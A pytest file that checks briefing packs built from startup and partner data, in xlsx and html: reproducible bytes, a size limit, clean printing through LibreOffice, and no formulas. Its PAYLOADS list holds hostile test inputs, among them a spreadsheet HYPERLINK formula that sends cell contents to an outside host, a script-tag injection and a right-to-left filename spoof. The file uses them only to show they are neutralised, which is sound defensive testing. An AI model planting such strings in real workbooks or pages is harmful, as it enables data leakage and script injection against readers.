"""From two sheets to a pack that an officer can send: in two formats, again to the byte, and whole when printed."""

import io
import os
import re
import shutil
import subprocess
import unicodedata
import zipfile

import openpyxl
import pytest

from matcher.domain.spreadsheet import writable
from matcher.engines.workbook import pack_workbook
from matcher.steps.pack import briefing_pack
from tests.conftest import Cli
from tests.packs import a_contribution, a_pair, a_result, quotes

PROGRAMME = "texchange-2027"
AS_OF = ("--as-of", "2027-01-15")
# Letters lean over the box of their neighbour by less than this, in points.
OVER = 2.0
SENTENCE = "Every word of this sentence has to be read by somebody before they meet. "
PAYLOADS = (
    '=HYPERLINK("http://example.com/?q="&A1,"Prize")',
    "<script>alert('x')</script> & <b>bold</b>",
    "Name \u202egnp.exe\u200f with marks",
    "Long name " * 30,
    "W" * 300,
    "Rocket 🚀 Health 🩺 Ltd",
    "+1 @home - \t=2",
    "Ærøskøbing Çelik Łódź 株式会社 健康",
    "History",
    "Read me",
)


def written(cli, folder, ending):
    path = folder / f"pack.{ending}"
    cli.run("shortlist", PROGRAMME, *AS_OF, "--output", path, "--quiet")
    return path


@pytest.mark.parametrize("ending", ["xlsx", "html"])
def test_the_samples_make_a_pack_and_the_same_run_makes_the_same_bytes(samples, tmp_path, ending):
    first = written(samples, tmp_path, ending).read_bytes()
    (tmp_path / "again").mkdir()
    assert written(samples, tmp_path / "again", ending).read_bytes() == first
    assert len(first) > 50_000


def test_every_startup_with_a_place_and_every_partner_it_meets_has_a_sheet(samples, tmp_path):
    book = openpyxl.load_workbook(written(samples, tmp_path, "xlsx"))
    meetings = [[cell.value for cell in row] for row in book["Meetings"].iter_rows(min_row=2)]
    heads = [cell.value for cell in book["Meetings"][1]]
    startups, partners = ({row[heads.index(side)] for row in meetings} for side in ("Startup", "Partner"))
    titles = {sheet["B1"].value for sheet in book.worksheets}
    assert len(startups) == 15 and len(partners) > 15
    assert startups | partners <= titles


def test_nothing_is_said_twice_on_a_page(samples, tmp_path):
    book = openpyxl.load_workbook(written(samples, tmp_path, "xlsx"))
    sheets = [sheet for sheet in book if not sheet["A1"].value]
    assert len(sheets) > 30
    twice, reasons, reasons_twice = [], 0, 0
    for sheet in sheets:
        rows = [(row[0].value, row[1].value) for row in sheet.iter_rows() if row[1].value]
        long = [text for label, text in rows if len(text) > 60 and label != "Why"]
        twice += [(sheet.title, text) for text in long if long.count(text) > 1 and "(in full above)" not in text]
        why = [text for label, text in rows if label == "Why"]
        reasons, reasons_twice = reasons + len(why), reasons_twice + len(why) - len(set(why))
    assert not twice
    # The embedder of the tests knows only words, so that now and then nothing tells two startups apart.
    assert reasons > 200 and reasons_twice < 0.02 * reasons


def test_65_startups_and_200_partners_stay_below_five_megabytes():
    pack = briefing_pack(large_result())
    assert len(pack.startups) == 65 and len(pack.partners) == 200
    assert len(pack_workbook(pack)) < 5_000_000


def large_result():
    """As large as the largest programme, with quotes on both sides of every meeting."""
    pairs = []
    for startup in range(65):
        for rank in range(8):
            partner = (startup * 8 + rank) % 200
            parts = [
                a_contribution(
                    feature,
                    points,
                    label=f"It speaks of {feature} in its own way",
                    evidence=quotes(
                        f"Startup {startup} says of {feature} to {rank}: {SENTENCE * 2}",
                        f"Partner {partner} says of {feature} to {startup}: {SENTENCE * 2}",
                        partner_id=f"p{partner:03}",
                    ),
                )
                for feature, points in (("brief", 1.0), ("thesis", 0.8), ("past_close", 0.5), ("sector", 0.4))
            ]
            reason = f"The reason of {startup} and {partner}: {SENTENCE * 3}"
            pairs.append(a_pair(f"s{startup:03}", f"p{partner:03}", rank=rank + 1, reason=reason, contributions=parts))
    return a_result(*pairs)


def payload_result():
    """Texts that trip programs, wherever a text can stand."""
    pairs = [
        a_pair(
            f"s{at}",
            f"p{at}",
            startup_name=text,
            partner_name=f"{text} as a partner",
            reason=f"{text} {SENTENCE * (at + 1)}",
            cautions=[text, f"{text} {SENTENCE}"],
            unknown=[{"rule": "x", "asked_by": "y", "detail": f"{text} {SENTENCE * 2}"}],
            contributions=[
                a_contribution("brief", label=f"{text} in a brief", evidence=quotes(f"{text} {SENTENCE * 4}", text))
            ],
        )
        for at, text in enumerate(PAYLOADS)
    ]
    left = [{"startup_id": f"u{at}", "name": text, "because": f"{text} {SENTENCE}"} for at, text in enumerate(PAYLOADS)]
    refused = [
        {"startup_id": f"r{at}", "rule": "sector", "detail": f"{text} {SENTENCE * 3}"}
        for at, text in enumerate(PAYLOADS)
    ]
    return a_result(*pairs, unplaced=left, refused=refused, programme_name=PAYLOADS[0])


@pytest.fixture(scope="module")
def office():
    """LibreOffice and what reads its pages; in CI they must be there."""
    missing = [name for name in ("soffice", "pdftotext") if shutil.which(name) is None]
    if missing and os.environ.get("CI"):
        pytest.fail(f"{' and '.join(missing)} must be there in CI")
    if missing:
        pytest.skip(f"{' and '.join(missing)} is not here, so nobody has looked how the pack prints")


def converted(path, folder, ending):
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            ending,
            "--outdir",
            folder,
            path,
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return folder / f"{path.stem}.{ending}"


def solid(text):
    """A text without white space and in its plain forms: ligatures and line ends are the printer's affair."""
    return re.sub(r"\s", "", unicodedata.normalize("NFKC", text))


def reads_from_the_right(text):
    return any(unicodedata.bidirectional(letter) in ("R", "AL", "RLM") for letter in text)


@pytest.fixture(scope="module", params=["samples", "payloads", "large"])
def workbook(request, samples, tmp_path_factory):
    folder = tmp_path_factory.mktemp(request.param)
    if request.param == "samples":
        return written(samples, folder, "xlsx")
    path = folder / "pack.xlsx"
    path.write_bytes(pack_workbook(briefing_pack(payload_result() if request.param == "payloads" else large_result())))
    return path


@pytest.fixture(scope="module")
def pdf(workbook, office, tmp_path_factory):
    return converted(workbook, tmp_path_factory.mktemp("pdf"), "pdf")


@pytest.fixture(scope="module")
def pages(pdf):
    """The text of each printed page, in the order in which it is drawn."""
    done = subprocess.run(["pdftotext", "-raw", pdf, "-"], check=True, capture_output=True, text=True)
    return done.stdout.split("\f")[:-1]


@pytest.mark.long
def test_every_text_of_every_cell_is_printed_whole(workbook, pages):
    printed = solid("".join(pages))
    book = openpyxl.load_workbook(workbook)
    texts = [
        cell.value for sheet in book for row in sheet for cell in row if isinstance(cell.value, str) and cell.value
    ]
    missing = [text for text in texts if not reads_from_the_right(text) and solid(text) not in printed]
    print(f"\n{workbook.parent.name}: {len(texts)} texts on {len(pages)} pages, {len(missing)} not whole")
    assert not missing, missing[:5]


@pytest.mark.long
def test_no_page_is_a_second_one_to_the_right(workbook, pages):
    lists = [page for page in pages if re.search(r"^Startup Rank Partner", page, re.MULTILINE) or "Still free" in page]
    assert lists
    for page in lists:
        assert re.search(r"Confidence\s+Why", page) or re.search(r"Partner\s+Kind\s+Meetings\s+Capacity", page), page[
            :300
        ]
    for number, page in enumerate(pages, start=1):
        assert f"page {number} of {len(pages)}" in page
        assert re.search(r"run [0-9a-f]{12}", page)


@pytest.mark.long
def test_no_text_is_printed_over_another(workbook, pdf):
    """LibreOffice draws what a cell is too small for where the next cell is, and covers it: there words overlap."""
    drawn = subprocess.run(["pdftotext", "-bbox", pdf, "-"], check=True, capture_output=True, text=True).stdout
    pages = [words_on(page) for page in drawn.split("<page ")[1:]]
    over = [(number, *pair) for number, words in enumerate(pages, start=1) for pair in overlapping(words)]
    print(f"\n{workbook.parent.name}: {sum(map(len, pages))} words on {len(pages)} pages, {len(over)} over another")
    assert sum(map(len, pages)) > 1_000 and not over, over[:5]


def words_on(page):
    """(top, bottom, left, right, word) of each word that has a width, from the top."""
    found = re.findall(r'xMin="([\d.-]+)" yMin="([\d.-]+)" xMax="([\d.-]+)" yMax="([\d.-]+)">(.*?)</word>', page)
    boxes = [(float(top), float(low), float(left), float(right), word) for left, top, right, low, word in found]
    return sorted(box for box in boxes if box[3] - box[2] > OVER)


def overlapping(words):
    for at, (top, low, left, right, word) in enumerate(words):
        for other_top, other_low, other_left, other_right, other in words[at + 1 :]:
            if other_top > low:
                break
            high = min(low, other_low) - other_top
            wide = min(right, other_right) - max(left, other_left)
            if high > 0.4 * (low - top) and wide > OVER:
                yield word, other


@pytest.mark.long
def test_nothing_in_the_workbook_is_a_formula_here_or_after_libreoffice_has_saved_it(workbook, office, tmp_path):
    for path in (workbook, converted(workbook, tmp_path, "xlsx")):
        book = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not [name for name in sheets if re.search(rb"<f[ >/]", book.read(name))]


@pytest.mark.long
def test_profiles_with_payloads_come_through_import_and_shortlist_harmless(office, tmp_path):
    cli = Cli(tmp_path / "workspace")
    startups, partners = ["id,name,country,summary,sectors,stage,market_ready"], ["id,name,kind,thesis,country,sectors"]
    for at, text in enumerate(PAYLOADS):
        name = '"' + text.replace('"', '""') + '"'
        startups.append(f"s{at},{name},KE,{name},health,series-a,yes")
        partners.append(f"p{at},{name},corporate,{name},GB,health")
    for kind, rows in (("startups", startups), ("partners", partners)):
        sheet = tmp_path / f"{kind}.csv"
        sheet.write_text("\n".join(rows) + "\n", encoding="utf-8")
        cli.run("import", kind, sheet, "--quiet")
    path = written(cli, tmp_path, "xlsx")
    book = openpyxl.load_workbook(path)
    assert not [cell for sheet in book for row in sheet for cell in row if cell.data_type == "f"]
    assert converted(path, tmp_path, "pdf").stat().st_size > 10_000
    page = written(cli, tmp_path, "html").read_text(encoding="utf-8")
    assert "<script" not in page and writable(page) == page
